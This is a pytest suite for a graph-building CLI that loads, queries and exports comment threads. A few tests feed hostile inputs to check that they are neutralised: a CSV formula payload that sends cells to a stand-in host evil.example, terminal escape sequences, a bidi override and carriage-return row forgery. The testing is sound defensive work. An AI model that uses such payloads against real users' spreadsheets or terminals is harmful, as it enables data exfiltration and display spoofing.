"""The spine through the CLI: load the example into the embedded store, query it, export it,
and refuse bad input with one line and a non-zero exit, leaving the store as it was."""

from __future__ import annotations

import csv
import io
import json
import re
import signal
import unicodedata
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from click.testing import CliRunner

from graphkit import cli, schema
from graphkit.cli import main
from graphkit.errors import Stopped
from graphkit.graph import build_graph
from graphkit.records import Fragment
from graphkit.store import open_store
from tests import builders as build
from tests.arabic_channel import ARABIC, not_english_said
from tests.processes import all_exited
from tests.stubs import COMMENTS, comment_sample

EXAMPLE = Path(__file__).parent / "data" / "palmyra-lavrov-thread.txt"


def run(*args: str, ok: bool = True):
    result = CliRunner().invoke(main, list(args), catch_exceptions=False)
    if ok:
        assert result.exit_code == 0, result.output
    return result


def rows(store: str, name: str, *params: str) -> list[dict]:
    args = ["query", name, "--format", "json", "--store", store]
    for p in params:
        args += ["-p", p]
    return json.loads(run(*args).stdout)


@pytest.fixture(scope="module")
def loaded(tmp_path_factory):
    store = str(tmp_path_factory.mktemp("cli") / "example.lbug")
    first = run("load", str(EXAMPLE), "--store", store, "--workers", "1")
    return store, first


def counts(store: str) -> dict[str, int]:
    out = run("stats", "--store", store).stdout
    return {name: int(n) for name, n in (line.split() for line in out.splitlines())}


def test_stubs_are_counted_apart_from_the_posts_read(tmp_path):
    """A real Pushshift comment sample holds no submission and some comments whose parent comment it lacks: the
    summary and ``stats`` count those stubs apart from the posts read, whose writers alone are its authors, and a
    second load finds every post it reads stored."""
    sample, path = comment_sample(), str(COMMENTS)
    store = str(tmp_path / "store.lbug")
    line = f"Loaded {len(sample.threads)} threads, {sample.read()}, {len(sample.writers)} authors,"
    assert run("load", path, "--store", store, "--no-entities").stdout.startswith(line)
    c = counts(store)
    assert (c["stub:Article"], c["stub:Comment"]) == (len(sample.threads), len(sample.parents))
    assert c["Article"] + c["Comment"] - c["stub:Article"] - c["stub:Comment"] == len(sample.comments)
    again = run("load", path, "--store", store, "--no-entities").stdout
    assert again.startswith(line) and f"; {len(sample.comments)} posts already stored, skipped;" in again


def test_example_loads_with_its_comments_authors_and_article(loaded):
    store, first = loaded
    assert "1 threads, 23 posts, 4 authors" in first.stdout
    c = counts(store)
    assert (c["Article"], c["Comment"], c["Author"]) == (1, 22, 4)
    assert c["REPLY_TO"] == 22 and c["WROTE"] == 14
    assert c["CITES"] == 4 and c["MENTIONS"] > 50 and c["QUOTES"] >= 5


def test_a_run_says_once_when_its_posts_look_not_english_and_only_with_entities(loaded, tmp_path):
    """trial F13: an Arabic channel's 40 posts loaded with 0 entities and nothing said the entity model reads English
    only. Load and extract now end with one line saying so (not one a post), counting the posts that hold 20 Arabic
    letters, most of their letters (``not_english_said``); the example says nothing, and neither does a run without
    entities, which reads no post for them."""
    said = not_english_said()
    for args in (["load", "--store", str(tmp_path / "a.lbug")], ["extract", "-o", str(tmp_path / "a.json")]):
        result = run(*args, str(ARABIC), "--map", "author=channel", "--workers", "1")
        assert [line for line in result.stderr.splitlines() if "English" in line] == [said], result.stderr
        assert "English" not in result.stdout
    result = run("load", str(ARABIC), "--store", str(tmp_path / "b.lbug"), "--no-entities", "--map", "author=channel")
    assert "English" not in result.output
    _, first = loaded
    assert "English" not in first.output


def test_a_run_of_several_inputs_says_which_look_not_english(tmp_path):
    """The Arabic channel read with the English example thread, in one run: the line names the channel, whose posts
    look not English (``not_english_said``), and not the thread, however many posts the thread holds."""
    said = not_english_said().removeprefix("Warning: ")
    for args in (["load", "--store", str(tmp_path / "a.lbug")], ["extract", "-o", str(tmp_path / "a.json")]):
        result = run(*args, str(ARABIC), str(EXAMPLE), "--map", "author=channel", "--workers", "1")
        assert [line for line in result.stderr.splitlines() if "English" in line] == [f"Warning: {ARABIC}: {said}"]


def test_loading_twice_changes_no_counts(loaded):
    store, _ = loaded
    before = counts(store)
    again = run("load", str(EXAMPLE), "--store", store, "--workers", "1")
    assert "0 nodes created" in again.stdout and "0 relationships created" in again.stdout
    assert counts(store) == before


def test_ids_are_identical_across_runs(loaded, tmp_path):
    out1, out2 = tmp_path / "a.json", tmp_path / "b.json"
    run("extract", str(EXAMPLE), "-o", str(out1), "--workers", "1")
    run("extract", str(EXAMPLE), "-o", str(out2), "--workers", "1")
    ids = [sorted(n["id"] for n in json.loads(p.read_text())["nodes"]) for p in (out1, out2)]
    assert ids[0] == ids[1]
    store, _ = loaded
    stored = {
        r["id"]
        for r in json.loads(
            run("query", "MATCH (c:Comment) RETURN c.id AS id", "--format", "json", "--store", store).stdout
        )
    }
    assert stored <= set(ids[0]) and len(stored) == 22


def test_extract_writes_the_export_contract(tmp_path):
    out = tmp_path / "graph.json"
    run("extract", str(EXAMPLE), "-o", str(out), "--workers", "1")
    data = json.loads(out.read_text())
    labels = {n["label"] for n in data["nodes"]}
    assert labels == {n.label for n in schema.NODES}
    for node in data["nodes"]:
        expected = set(schema.node_type(node["label"]).names) - set(schema.PERSONAL_PROPS)
        assert isinstance(node["id"], str) and expected <= set(node)
    types = {e["type"] for e in data["edges"]}
    assert types == {r.type for r in schema.RELATIONSHIPS} - {schema.FORWARDS}  # the example forwards nothing
    for edge in data["edges"]:
        assert {"source", "target", "type"} <= set(edge)
        assert set(schema.rel_type(edge["type"]).names) <= set(edge)
    nodes = {n["id"] for n in data["nodes"]}
    assert all(e["source"] in nodes and e["target"] in nodes for e in data["edges"])


def test_query_library_on_the_example(loaded):
    store, _ = loaded
    repliers = rows(store, "top-repliers")
    assert {r["author"] for r in repliers[:2]} == {"Brad Isherwood", "888mladen"}
    network = {(r["from_author"], r["to_author"]): r["replies"] for r in rows(store, "reply-network")}
    assert network[("888mladen", "Brad Isherwood")] >= 2 and network[("Brad Isherwood", "888mladen")] >= 1
    ranked = rows(store, "most-mentioned", "limit=500")
    assert all(isinstance(r["mean_sentiment"], float) for r in ranked)
    people = rows(store, "most-mentioned", "label=Person")
    assert {r["label"] for r in people} == {"Person"}
    assert people[0]["name"] == "Sergey Lavrov" and people[0]["mentions"] >= 15
    pairs = {(r["first"], r["second"]) for r in rows(store, "co-mentions", "limit=500")}
    assert any("Sergey Lavrov" in pair and any("Putin" in name for name in pair) for pair in pairs)
    tree = rows(
        store,
        "thread-tree",
        "article=" + "Russia: ISIS Offensive on Palmyra Could Be Launched to Give Respite to Militants in Aleppo",
    )
    assert [r["position"] for r in tree] == list(range(1, 23)) and max(r["depth"] for r in tree) >= 3
    domains = {r["domain"] for r in rows(store, "cited-sources")}
    assert domains == {"youtube.com", "disquscdn.com", "theduran.com", "southfront.org"}
    named = {(r["author"], r["mentioned"]) for r in rows(store, "who-mentions-whom")}
    assert {("888mladen", "Brad Isherwood"), ("Brad Isherwood", "888mladen")} <= named
    mentions = rows(store, "mentions-of", "name=Lavrov")
    assert len(mentions) >= 15 and {r["entity"] for r in mentions} == {"Sergey Lavrov"}
    assert all(r["text"] in r["sentence"] for r in mentions)
    quotes = rows(store, "quotes-of", "name=Sergey Lavrov")
    assert len(quotes) >= 5 and all(r["author"] == "(anonymous)" or r["quote"] for r in quotes)
    assert rows(store, "negative-mentions", "threshold=-0.3")


def test_thread_tree_rows_rebuild_each_tree_of_a_shared_title_at_any_depth(tmp_path):
    """Two Reddit submissions titled alike (as an article's http:// and https:// threads are), one with a chain 35
    replies deep, the other with two replies: the rows of the title, each with its article, own id and parent's id,
    rebuild both trees apart, every reply of the chain kept (30 came back), its depth given up to 30 and empty past."""
    chain, other = 35, 2
    records = [
        {"id": s, "name": f"t3_{s}", "author": "op", "title": "Same title", "selftext": "Post.", "is_self": True,
         "url": f"https://www.reddit.com/r/x/comments/{s}/", "created_utc": 1500000000, "subreddit": "x"}
        for s in ("s1", "s2")
    ]  # fmt: skip
    for thread, count in (("s1", chain), ("s2", other)):
        parent = f"t3_{thread}"
        for i in range(count):
            records.append(
                {"id": f"{thread}c{i}", "name": f"t1_{thread}c{i}", "parent_id": parent, "link_id": f"t3_{thread}",
                 "author": f"u{i % 3}", "body": f"{thread} reply {i}.", "created_utc": 1500000100 + i, "subreddit": "x"}
            )  # fmt: skip
            parent = f"t1_{thread}c{i}" if thread == "s1" else parent  # s1 a chain, s2 replies to the submission
    dump = tmp_path / "same-title.ndjson"
    build.jsonl(dump, records)
    store = str(tmp_path / "s.lbug")
    run("load", str(dump), "--format", "reddit", "--store", store, "--no-entities")
    tree = rows(store, "thread-tree", "article=Same title")
    assert len({r["id"] for r in tree}) == len(tree) == chain + other
    for thread, count in (("s1", chain), ("s2", other)):
        mine = [r for r in tree if r["text"].startswith(f"{thread} reply ")]
        assert len(mine) == count and len({r["article"] for r in mine}) == 1
        article = mine[0]["article"]
        by_id = {r["id"]: r for r in tree if r["article"] == article}
        assert set(by_id) == {r["id"] for r in mine}  # the other thread's rows are apart
        for row in mine:
            steps, up = 1, row  # the depth rebuilt from the rows' ids
            while up["parent"] != article:
                steps, up = steps + 1, by_id[up["parent"]]
            i = int(row["text"].split()[-1].rstrip("."))
            expected = i + 1 if thread == "s1" else 1  # from the records written above
            assert steps == expected
            assert row["depth"] == (expected if expected <= 30 else None)


def test_query_csv_lines_end_in_lf_and_table_columns_align_wide_names(loaded):
    """A shell's $(... | tail -1) keeps a CR, which csv writes by default; a terminal gives an East Asian name's
    characters two columns each, so the table pads by columns, not characters."""
    store, _ = loaded
    cypher = "UNWIND ['张伟', 'Ann', 'ｔｏｍ', 'Zoë'] AS name RETURN name, 7 AS posts"
    csv_out = run("query", cypher, "--format", "csv", "--store", store).stdout_bytes
    assert csv_out == "name,posts\n张伟,7\nAnn,7\nｔｏｍ,7\nZoë,7\n".encode()
    table = run("query", cypher, "--store", store).stdout.splitlines()
    wide = {"张": 2, "伟": 2, "ｔ": 2, "ｏ": 2, "ｍ": 2}  # East Asian width W and F, as Unicode's tables give them
    columns = [sum(wide.get(ch, 1) for ch in line[: line.index(end)]) for line, end in zip(table, "p7777", strict=True)]
    assert len(set(columns)) == 1, table


def test_query_csv_rows_are_the_rows_whatever_line_breaks_values_hold(loaded):
    """A carriage return in a comment's text, alone or before a line feed, is a line break to a spreadsheet and to
    csv readers: unquoted, it would end the row there and start a forged one with the rest of the text."""
    store, _ = loaded
    texts = ["over\rwrite", "a\r=HYPERLINK(1),b", "c\r\nd", "e\nf", "plain"]
    params = [arg for i, text in enumerate(texts) for arg in ("-p", f"t{i}={text}")]
    cypher = f"UNWIND [{', '.join(f'$t{i}' for i in range(len(texts)))}] AS text RETURN text, 7 AS n"
    out = run("query", cypher, *params, "--format", "csv", "--store", store).stdout_bytes.decode()
    assert list(csv.reader(io.StringIO(out, newline=""))) == [["text", "n"], *([t, "7"] for t in texts)]
    assert out.endswith("plain,7\n") and "\r\n" not in out.replace('"c\r\nd"', "")


def test_query_table_marks_a_cell_it_cuts(loaded):
    """A table gives a column 60 columns at most: a longer value (a comment's text) is cut there, its last column
    "…", so that no one takes it for the whole; JSON keeps every value whole."""
    store, _ = loaded
    cypher = "MATCH (c:Comment) RETURN c.text AS text ORDER BY c.id"
    texts = [row["text"] for row in json.loads(run("query", cypher, "--format", "json", "--store", store).stdout)]
    long = [t for t in texts if len(t) > 60 and t.isascii()]
    assert long
    lines = run("query", cypher, "--store", store).stdout.splitlines()[1:]
    for text, line in zip(texts, lines, strict=True):
        if text in long:
            assert line == _cli_cell(text)[:59] + "…", line


def _cli_cell(text: str) -> str:
    """A value as a table cell shows it (control characters a space or U+FFFD)."""
    return "".join(" " if ch in "\t\n\r" else ch for ch in text)


def test_query_table_shows_control_and_bidi_characters_of_user_text_inert(loaded):
    """Text users wrote reaches the table: an escape sequence would colour the terminal, a carriage return overwrite
    the line, a tab break the columns, U+202E turn the rest of the line around. In the table they are shown inert
    (U+FFFD, a space, dropped) and zero-width characters take no column; CSV and JSON keep the values as stored."""
    store, _ = loaded
    names = ["\x1b[31mred\x1b[0m", "over\rwrite", "tab\there", "\u202eevil", "\u2764\ufe0f", "a\u200db"]
    params = [arg for i, name in enumerate(names) for arg in ("-p", f"n{i}={name}")]
    cypher = f"UNWIND [{', '.join(f'$n{i}' for i in range(len(names)))}] AS name RETURN name AS `na\tme`, 7 AS posts"
    table = run("query", cypher, *params, "--store", store).stdout
    assert not any(unicodedata.category(ch) == "Cc" for ch in table.replace("\n", "")), repr(table)
    assert not set(table) & set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    lines = table.splitlines()
    assert lines[0].startswith("na me") and "\ufffd[31mred\ufffd[0m" in lines[1] and "over write" in lines[2]
    zero = {"\u200d", "\ufe0f"}  # a zero-width joiner and the emoji variation selector take no column
    columns = [
        sum(ch not in zero for ch in line[: line.rindex(end)]) for line, end in zip(lines, "p777777", strict=True)
    ]
    assert len(set(columns)) == 1, lines
    rows = json.loads(run("query", cypher, *params, "--format", "json", "--store", store).stdout)
    assert [row["na\tme"] for row in rows] == names
    assert run("query", cypher, *params, "--format", "csv", "--store", store).stdout_bytes.decode().count("\x1b") == 2


def test_query_csv_cells_a_spreadsheet_would_take_for_formulas_are_text(loaded):
    """A comment's text may start like a formula (=HYPERLINK(…) sends the sheet's cells away when clicked): in CSV,
    which analysts open in a spreadsheet, a text cell starting with = + - @, a tab or a carriage return gets a
    leading apostrophe, which spreadsheets take as "this is text"; numbers and JSON are as stored."""
    store, _ = loaded
    texts = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "ok =1", ""]
    params = [arg for i, text in enumerate(texts) for arg in ("-p", f"t{i}={text}")]
    cypher = f"UNWIND [{', '.join(f'$t{i}' for i in range(len(texts)))}] AS text RETURN text, -3 AS n"
    out = run("query", cypher, *params, "--format", "csv", "--store", store).stdout_bytes.decode()
    rows = list(csv.reader(io.StringIO(out, newline="")))
    shown = [("'" + t if t[:1] in ("=", "+", "-", "@", "\t", "\r") else t) for t in texts]
    assert rows == [["text", "n"], *([t, "-3"] for t in shown)]
    rows = json.loads(run("query", cypher, *params, "--format", "json", "--store", store).stdout)
    assert [row["text"] for row in rows] == texts


def test_an_error_quoting_a_users_text_shows_its_control_and_bidi_characters_inert(tmp_path):
    """An engine error may quote a stored value (a comment's text the query could not read as a number): what a user
    wrote must not drive the terminal there either (an escape sequence sets the window title, U+202E turns the line
    around), as in the table."""
    store = str(tmp_path / "store.lbug")
    art = build.article("one")
    with open_store("ladybug", path=store) as db:
        db.load(build_graph([art, build.post(art.id, 1, "x\x1b[31mred\x1b]0;title\x07\u202eevil")], Fragment()))
    args = ["query", "MATCH (c:Comment) RETURN CAST(c.text AS INT64) AS n", "--store", store]
    result = CliRunner().invoke(main, args, color=True)  # escapes kept, as a terminal gets them
    assert result.exit_code == 1
    (line,) = result.stderr.splitlines()
    assert "x\ufffd[31mred\ufffd]0;title\ufffdevil" in line


def test_query_is_read_only_unless_write(loaded):
    store, _ = loaded
    result = run("query", "MATCH (c:Comment) SET c.text = 'x'", "--store", store, ok=False)
    assert result.exit_code == 1 and "--write" in result.stderr


@pytest.mark.parametrize(
    ("cypher", "said"),
    [
        ("MATCH (c:Coment) RETURN count(c)", "no label Coment in the store or the schema (did you mean Comment?)"),
        (
            "MATCH ()-[r:REPLIES_TO]->() RETURN r",
            "no relationship type REPLIES_TO in the store or the schema (did you mean REPLY_TO?)",
        ),
        ("MATCH (n:COMENT) RETURN n", "no label COMENT in the store or the schema (did you mean Comment?)"),
        (
            "MATCH ()-[r:Mention]->() RETURN r",
            "no relationship type Mention in the store or the schema (did you mean MENTIONS?)",
        ),
        ("MATCH (c:Comment) RETURN c.txt", "no property txt in the store or the schema (did you mean text?)"),
        # a name the user wrote across lines, or with a terminal's escape, is told on one line, shown inert
        ("MATCH (c:`Com\nment`) RETURN c", "no label Com ment in the store or the schema (did you mean Comment?)"),
        (
            "MATCH (c:Comment) RETURN c.`te\x1bxt`",
            "no property te\ufffdxt in the store or the schema (did you mean text?)",
        ),
        (
            "MATCH (c:Comment) RETURN c.name",
            "Binder exception: Cannot find property name for c.",
        ),  # Author's, not a typo
        # an error merely quoting the engine's words for a name it lacks names none
        ("RETURN error('Table Coment does not exist')", "Runtime exception: Table Coment does not exist"),
        (
            "RETURN `Table Coment does not exist` AS x",
            "Binder exception: Variable Table Coment does not exist is not in scope.",
        ),
        (
            "RETURN error('Cannot find property txt for c.')",
            "Runtime exception: Cannot find property txt for c.",
        ),
    ],
)
def test_a_misspelt_name_is_refused_with_the_schemas_closest(loaded, cypher, said):
    store, _ = loaded
    result = run("query", cypher, "--store", store, ok=False)
    assert result.exit_code == 1 and result.stderr == f"Error: {said}\n"


def test_query_list_and_unknown_query(loaded):
    store, _ = loaded
    listing = run("query", "--list").stdout
    assert "top-repliers" in listing and "mentions-of" in listing
    result = run("query", "no-such-query", "--store", store, ok=False)
    assert result.exit_code == 1 and "unknown query" in result.stderr


def _bad_inputs(tmp_path):
    (tmp_path / "empty.txt").write_text("")
    (tmp_path / "binary.bin").write_bytes(bytes(range(256)) * 4)
    (tmp_path / "latin1.txt").write_bytes("Headline\n\nCaf\xe9 body text.\n".encode("latin-1"))
    (tmp_path / "emptydir").mkdir()
    return {
        "missing": (str(tmp_path / "nope.txt"), "no such file"),
        "empty": (str(tmp_path / "empty.txt"), "empty"),
        "binary": (str(tmp_path / "binary.bin"), "binary"),
        "invalid utf-8": (str(tmp_path / "latin1.txt"), "UTF-8"),
        "directory": (str(tmp_path / "emptydir"), "directory"),
    }


@pytest.mark.parametrize("case", ["missing", "empty", "binary", "invalid utf-8", "directory"])
def test_bad_input_is_one_line_nonzero_and_leaves_the_store_unchanged(loaded, tmp_path, case):
    store, _ = loaded
    before = counts(store)
    path, message = _bad_inputs(tmp_path)[case]
    result = run("load", path, "--store", store, "--workers", "1", ok=False)
    assert result.exit_code != 0
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and message in lines[0] and "Traceback" not in result.output
    assert counts(store) == before


def test_bad_input_creates_no_store(tmp_path):
    store = tmp_path / "fresh.lbug"
    result = run("load", str(tmp_path / "nope.txt"), "--store", str(store), ok=False)
    assert result.exit_code == 1 and not store.exists()


@pytest.mark.parametrize("where", ["missing folder", "a folder"])
def test_a_graph_file_that_cannot_be_written_fails_in_one_line_before_extracting(tmp_path, where):
    output = tmp_path / "nope" / "graph.graphml" if where == "missing folder" else tmp_path / "graph.graphml"
    if where == "a folder":
        output.mkdir()
    result = run("extract", str(EXAMPLE), "-o", str(output), "--workers", "1", ok=False)
    lines = result.stderr.strip().splitlines()
    assert result.exit_code == 1 and len(lines) == 1 and str(output) in lines[0], result.output
    assert "Extracting" not in result.output and "unexpected" not in lines[0]


@pytest.mark.parametrize("show", [False, True])
def test_email_addresses_stay_out_of_exports_unless_asked(tmp_path, show):
    mbox = Path(__file__).parent / "data" / "sources" / "list.mbox"
    out = tmp_path / "graph.json"
    run("extract", str(mbox), "-o", str(out), "--no-entities", *(["--show-emails"] if show else []))
    text = out.read_text(encoding="utf-8")
    authors = [n for n in json.loads(text)["nodes"] if n["label"] == schema.AUTHOR]
    assert authors and all(("email" in a) == show for a in authors)
    addresses = ["frank@example.com", "carol@example.com"]
    assert all((address in text) == show for address in addresses)


def test_long_load_reports_progress_and_ends_with_one_summary_line(tmp_path):
    from bench.synthetic import write_reddit_dump

    dump = tmp_path / "dump.ndjson"
    write_reddit_dump(dump, 300, seed=5)
    lines = dump.read_text(encoding="utf-8").splitlines(keepends=True)
    lines.insert(100, '{"id": "broken\n')
    dump.write_text("".join(lines), encoding="utf-8")
    store = str(tmp_path / "s.lbug")
    result = run("load", str(dump), "--store", store, "--no-entities", "--batch-size", "100")
    summary = result.stdout.strip().splitlines()
    assert len(summary) == 1 and summary[0].startswith("Loaded ")
    assert f"1 malformed records skipped ({dump}:101)" in summary[0]
    assert "1 threads" not in summary[0] and " posts, " in summary[0] and " edges; " in summary[0]
    progress = result.stderr.strip().splitlines()  # not a terminal: one line per committed batch
    assert len(progress) >= 3 and all(p.startswith("Loading: ") and "posts/s" in p for p in progress)
    assert progress[-1].endswith("100% of input")


def test_the_summary_shows_locations_from_the_input_inert(tmp_path):
    """A record id is the input's: repeated, it is named in the load's summary, where an escape sequence or a bidi
    control in it must not reach the terminal (it did as it was, only one-line errors were made inert)."""
    hostile = "2\x1b]0;PWNED\x07\u202e"
    records = [
        {"id": "1", "title": "A thread", "text": "The root.", "author": "ann"},
        {"id": hostile, "parent": "1", "text": "One reply.", "author": "bob"},
        {"id": hostile, "parent": "1", "text": "Another reply.", "author": "cy"},
    ]
    dump = tmp_path / "rows.jsonl"
    build.jsonl(dump, records)
    result = run("load", str(dump), "--store", str(tmp_path / "s.lbug"), "--no-entities")
    summary = result.stdout.strip()
    assert "1 duplicate records skipped" in summary and "2\ufffd]0;PWNED\ufffd)" in summary
    assert not [ch for ch in summary if unicodedata.category(ch) in ("Cc", "Cf")]


def test_progress_of_a_file_read_whole_is_the_share_of_its_posts_loaded(tmp_path):
    """A JSON file is parsed whole before its first post is loaded: its bytes are all read at once, so the share
    shown follows the posts loaded, and 100% only once every one is (it said 100% after 80 of 105)."""
    item = Path(__file__).parent / "data" / "real" / "hackernews" / "communal-algolia-item.json"

    def items(node: dict) -> int:
        return 1 + sum(items(child) for child in node.get("children", []))

    total = items(json.loads(item.read_text(encoding="utf-8")))  # the story and its comments
    result = run("load", str(item), "--store", str(tmp_path / "s.lbug"), "--no-entities", "--batch-size", "20")
    shown = [
        re.fullmatch(r"Loading: (\d+) posts, \d+ posts/s, (\d+)% of input", line) for line in result.stderr.splitlines()
    ]
    assert len(shown) >= 2 and all(shown), result.stderr
    assert [int(m[2]) for m in shown] == [round(100 * int(m[1]) / total) for m in shown]
    assert int(shown[-1][1]) == total and [int(m[2]) for m in shown].count(100) == 1


def test_extract_merges_batches_whose_parents_came_earlier(tmp_path):
    from bench.synthetic import write_reddit_dump

    dump = tmp_path / "dump.ndjson"
    write_reddit_dump(dump, 300, seed=5)
    out = tmp_path / "g.json"
    run("extract", str(dump), "-o", str(out), "--no-entities", "--batch-size", "50")
    graph = json.loads(out.read_text())
    replies = [e for e in graph["edges"] if e["type"] == schema.REPLY_TO]
    labelled = {n["id"] for n in graph["nodes"] if n.get("label") in schema.POST_LABELS}
    assert len(replies) == 300 and all(e["source"] in labelled and e["target"] in labelled for e in replies)


def test_a_store_error_mid_load_is_one_line_and_stops_the_model_workers(tmp_path, monkeypatch):
    import multiprocessing

    from bench.synthetic import write_reddit_dump
    from graphkit.store.ladybug_bulk import BulkLoad

    dump = tmp_path / "dump.ndjson"
    write_reddit_dump(dump, 300, seed=5)
    spilled, batches = BulkLoad.load, []

    def full_after_one_batch(self, graph, progress=None):  # a new store's batches are spilled beside it
        if batches:
            raise OSError("No space left on device")
        batches.append(graph)
        return spilled(self, graph, progress)

    monkeypatch.setattr(BulkLoad, "load", full_after_one_batch)
    store = tmp_path / "s.lbug"
    args = ["load", str(dump), "--store", str(store), "--workers", "2", "--batch-size", "50"]
    result = run(*args, ok=False)
    assert result.exit_code == 1
    assert result.stderr.splitlines()[-1].startswith("Error: unexpected OSError: No space left on device (run with")
    assert all(line.startswith("Loading: ") for line in result.stderr.splitlines()[:-1])
    assert all_exited(multiprocessing.active_children())
    assert not (tmp_path / "s.lbug.bulk").exists()  # nothing left beside the store, which holds nothing


@contextmanager
def _handling(sig: signal.Signals, handler) -> Iterator[None]:
    """``sig`` handled by ``handler`` meanwhile, as the process that runs graphkit set it."""
    before = signal.signal(sig, handler)
    try:
        yield
    finally:
        signal.signal(sig, before)


def test_a_stop_signal_the_process_ignores_stays_ignored():
    """Under ``nohup`` SIGHUP is ignored: closing the terminal must not stop the run."""
    with _handling(signal.SIGHUP, signal.SIG_IGN), _handling(signal.SIGTERM, signal.SIG_DFL):
        with cli._stops_raised():
            assert signal.getsignal(signal.SIGHUP) is signal.SIG_IGN
            signal.raise_signal(signal.SIGHUP)  # ignored: the run goes on
            with pytest.raises(Stopped):
                signal.raise_signal(signal.SIGTERM)
                pytest.fail("SIGTERM did not stop the run")
        assert signal.getsignal(signal.SIGHUP) is signal.SIG_IGN
        assert signal.getsignal(signal.SIGTERM) is signal.SIG_DFL


def test_a_stop_signal_something_else_handles_stays_its_own():
    """graphkit's commands run inside a program that handles SIGHUP itself: its handler stays, during and after a
    run that SIGTERM stopped."""
    heard = []
    with _handling(signal.SIGHUP, lambda signum, _frame: heard.append(signum)):
        own = signal.getsignal(signal.SIGHUP)
        with _handling(signal.SIGTERM, signal.SIG_DFL), pytest.raises(Stopped), cli._stops_raised():
            signal.raise_signal(signal.SIGHUP)
            signal.raise_signal(signal.SIGTERM)
            pytest.fail("SIGTERM did not stop the run")
        assert signal.getsignal(signal.SIGHUP) is own and heard == [signal.SIGHUP]


def _threads_jsonl(path: Path, rows: int) -> None:
    """A table of ``rows`` rows as JSON lines, threads of ten: a root and its replies, each answering the row before."""
    with path.open("w", encoding="utf-8") as out:
        for n in range(rows):
            parent = "" if n % 10 == 0 else f"r{n - 1}"
            row = {"id": f"r{n}", "parent": parent, "author": f"user{n % 97}", "text": f"row {n} " + "words " * 30}
            out.write(json.dumps(row) + "\n")


class _Pulled:
    """Counts the posts a consumer has pulled from a stream."""

    def __init__(self) -> None:
        self.count = 0

    def through(self, posts: Iterator) -> Iterator:
        for post in posts:
            self.count += 1
            yield post


def test_progress_follows_the_stream_posts_come_from_and_holds_a_few_batches_at_most(tmp_path):
    """The table reader's first pass reads the file through before its first post: the meter stays on the stream the
    posts come from, so no post is read ahead at the first (before, every post left was held: 28 -> 91 MB of heap at
    100k rows)."""
    import tracemalloc

    from graphkit.sources import expand_inputs, read_posts

    path = tmp_path / "rows.jsonl"
    _threads_jsonl(path, 20_000)
    inputs = expand_inputs([str(path)])
    pulled = _Pulled()

    def heap_at_first_post(posts: Iterator) -> int:
        tracemalloc.start()
        try:
            next(posts)
            return tracemalloc.get_traced_memory()[0]
        finally:
            tracemalloc.stop()

    alone = heap_at_first_post(read_posts(expand_inputs([str(path)]), "tabular"))  # the first pass's ids
    progress = cli._Progress(inputs, "Loading", 20_000)
    followed = heap_at_first_post(progress.follow(pulled.through(read_posts(inputs, "tabular"))))
    assert pulled.count == 1 and followed < alone + 500_000, (alone, followed)  # before: 17.1 MB against 3.9 MB

    result = run("load", str(path), "--store", str(tmp_path / "s.lbug"), "--no-entities", "--batch-size", "2000")
    shown = re.findall(r"Loading: (\d+) posts, \d+ posts/s, (\d+)% of input", result.stderr)
    assert [int(posts) for posts, _ in shown] == list(range(2000, 20_001, 2000)), result.stderr
    assert all(int(share) < 100 for _, share in shown[:-1]) and shown[-1][1] == "100", shown


def test_progress_holds_a_few_batches_at_most_to_count_the_posts_left(tmp_path):
    """A file parsed whole is read through at its first post: at most ``ahead`` posts are held to count the rest;
    past that the posts left show the bytes read."""
    item = Path(__file__).parent / "data" / "real" / "hackernews" / "communal-algolia-item.json"
    from graphkit.sources import expand_inputs, read_posts

    inputs = expand_inputs([str(item)])
    pulled = _Pulled()

    progress = cli._Progress(inputs, "Loading", 20)
    followed = progress.follow(pulled.through(read_posts(inputs)))
    next(followed)
    assert pulled.count == 21
    every = 1 + sum(1 for _ in followed)
    assert every > 21 and progress._done(1) == progress._done(every) == progress.total


def test_progress_ends_at_100_percent_when_posts_are_skipped_as_duplicates_of_stored_ones(tmp_path):
    """Posts skipped as duplicates of stored posts (another text under a stored id) are read but never loaded: the
    last update still says 100% (it ended at 76% once the 25 comments of the story came again edited)."""
    item = Path(__file__).parent / "data" / "real" / "hackernews" / "communal-algolia-item.json"
    story = json.loads(item.read_text(encoding="utf-8"))
    for comment in story["children"]:
        comment["text"] = (comment.get("text") or "") + " (edited)"
    edited = tmp_path / "edited.json"
    edited.write_text(json.dumps(story), encoding="utf-8")
    store = str(tmp_path / "s.lbug")
    run("load", str(item), "--store", store, "--no-entities", "--batch-size", "20")
    result = run("load", str(edited), "--store", store, "--no-entities", "--batch-size", "20")
    shown = re.findall(r"Loading: \d+ posts, \d+ posts/s, (\d+)% of input", result.stderr)
    assert f"{len(story['children'])} duplicates of stored posts skipped" in result.stdout
    assert shown[-1] == "100" and shown.count("100") == 1, result.stderr


HN_COMMENTS = Path(__file__).parent / "data" / "real" / "hackernews" / "hn-comments-200.jsonl"


def test_a_thread_is_named_by_its_inputs_own_id_of_digits(tmp_path):
    """typesense's Hacker News comments (tests/data/real/hackernews), each stated parent of digits not in the file
    and so a thread's root: "-p article=33220665" and "--thread 33220665" name that thread by the input's own id (the
    query failed with the engine's "Cast failed", the digits passed as a number; the view knew no such thread). A
    value of the wrong type for a parameter, of the library or of a statement, is one line, not the engine's."""
    items = [json.loads(line) for line in HN_COMMENTS.read_text(encoding="utf-8").splitlines()]
    root = items[0]["parent"]
    thread = {root}
    while grown := {i["id"] for i in items if i["parent"] in thread} - thread:
        thread |= grown
    writers = sorted(i.get("by", "(anonymous)") for i in items if i["id"] in thread)
    store = str(tmp_path / "hn.lbug")
    run("load", str(HN_COMMENTS), "--store", store, "--no-entities", "--workers", "1")
    tree = rows(store, "thread-tree", f"article={root}")
    assert sorted(r["author"] for r in tree) == writers and len({r["article"] for r in tree}) == 1
    page = tmp_path / "thread.html"
    run("view", "--kind", "thread", "--thread", str(root), "-o", str(page), "--store", store)
    assert page.exists()
    for args in (
        ("top-repliers", "-p", "limit=abc"),
        ("top-repliers", "-p", "limit=" + "-" * 200_000 + "1"),
        ("MATCH (a:Article) WHERE a.id = $x RETURN a.id", "-p", "x=5"),
    ):
        failed = run("query", *args, "--store", store, ok=False)
        lines = failed.output.strip().splitlines()
        assert failed.exit_code != 0 and len(lines) == 1 and "Cast failed" not in lines[0], lines
        assert "unexpected" not in lines[0], lines  # a long run of signs is a wrong value, not Python's MemoryError


